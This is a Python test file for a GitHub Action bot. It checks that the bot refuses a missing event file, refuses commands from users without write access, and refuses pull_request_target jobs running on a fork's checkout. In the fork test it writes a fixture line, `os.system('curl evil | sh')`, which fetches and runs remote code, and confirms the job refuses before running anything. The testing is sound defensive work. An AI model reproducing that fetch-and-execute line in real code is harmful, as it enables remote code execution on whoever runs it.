"""Bad input to a step, said clearly and doing no work: no event file (exit 64, one line), a
command from someone without write access (one polite refusal, nothing run), and a
`pull_request_target` job whose workspace is a fork's head (refused before anything runs: a
privileged job never works on a fork's checkout)."""

from __future__ import annotations

import json
import subprocess

from tests.e2e_actions.conftest import (
    Steps,
    assert_all_outputs,
    assert_no_secret,
    holon_checks,
    one_line_error,
    pull_of,
    pulls,
)
from tests.support.actions_env import git
from tests.support.github_fake.loopback import LoopbackGitHub

WRITES = (
    "issues/create-comment",
    "issues/update-comment",
    "pulls/create",
    "git/create-ref",
    "git/update-ref",
    "checks/create",
    "checks/update",
)


def _writes(server: LoopbackGitHub) -> list[str]:
    return [c.operation for c in server.calls if c.operation in WRITES]


def test_a_missing_event_file_is_one_line_and_exit_64(
    github_server: LoopbackGitHub, steps: Steps
) -> None:
    step = steps()
    issue = step.add_issue()
    step.comment_event(issue.number, "/holon solve")
    step.extra["GITHUB_EVENT_PATH"] = str(step.root / "nowhere" / "event.json")
    done = step.run()
    assert done.returncode == 64, done.stdout + done.stderr
    line = one_line_error(done.stderr)
    assert "GITHUB_EVENT_PATH" in line, line
    assert _writes(github_server) == []
    assert_no_secret(step, done.stdout, done.stderr, masked=False)

    unset = steps("unset")
    unset.event_name = "issue_comment"
    env = unset.env()
    del env["GITHUB_EVENT_PATH"]
    done = subprocess.run(
        unset.argv(), env=env, cwd=unset.workspace, capture_output=True, text=True, timeout=60
    )
    assert done.returncode == 64, done.stdout + done.stderr
    assert "GITHUB_EVENT_PATH" in one_line_error(done.stderr)


def test_a_command_without_write_access_gets_one_refusal_and_no_work(
    github_server: LoopbackGitHub, steps: Steps
) -> None:
    step = steps()
    issue = step.add_issue()
    step.repo.permissions["stranger"] = "read"
    step.comment_event(issue.number, "/holon solve", actor="stranger", association="NONE")
    done = step.run()
    assert done.returncode == 0, done.stdout + done.stderr
    holon = [c for c in step.repo.comments.values() if c.user == github_server.login]
    assert len(holon) == 1, [c.body for c in holon]
    assert "skill=reply.refusal" in holon[0].body.splitlines()[0]
    assert "write access" in holon[0].body
    assert github_server.count("issues/create-comment") == 1
    outputs = step.outputs()
    assert_all_outputs(outputs)
    assert json.loads(outputs["runs"]) == []
    assert not (step.runner_temp / "holon" / "runs").exists() or not any(
        (step.runner_temp / "holon" / "runs").iterdir()
    )
    assert not pulls(step.repo)
    assert holon_checks(step.repo) == []
    assert_no_secret(step, done.stdout, done.stderr)


def test_pull_request_target_with_a_fork_head_checked_out_is_refused(
    github_server: LoopbackGitHub, steps: Steps
) -> None:
    step = steps()
    repo = step.repo
    # The fork's pull request, and the workspace at its head: what a privileged workflow that
    # checks out `github.event.pull_request.head.sha` has on disk.
    (step.workspace / "calc.py").write_text("import os\nos.system('curl evil | sh')\n")
    git(step.workspace, "commit", "-qam", "fork change")
    head = git(step.workspace, "rev-parse", "HEAD").strip()
    pull = repo.add_pull("Improve calc", head="feature", user="forker")
    pull_of(pull).fork = "forker/Hello-World"
    pull_of(pull).head_sha = head
    step.pull_request_event("pull_request_target", "opened", pull.number, actor="forker")
    done = step.run()
    assert done.returncode == 64, done.stdout + done.stderr
    line = one_line_error(done.stderr)
    assert "pull_request_target" in line, line
    assert "fork" in line, line
    assert "check out the base" in step.summary(), step.summary()
    assert _writes(github_server) == []
    runs = step.runner_temp / "holon" / "runs"
    assert not runs.exists() or not any(runs.iterdir())
    assert len(pulls(repo)) == 1
    assert_no_secret(step, done.stdout, done.stderr)
